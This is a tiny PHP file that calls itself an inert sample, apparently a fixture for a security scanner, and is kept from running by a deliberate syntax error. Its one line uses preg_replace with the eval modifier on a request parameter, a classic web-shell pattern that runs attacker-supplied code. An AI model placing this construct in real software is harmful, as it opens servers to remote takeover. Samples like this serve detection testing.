<?php
shodo inert sample: deliberate syntax error, this file never runs
preg_replace("#x#ie", $_REQUEST['r'], 'x');
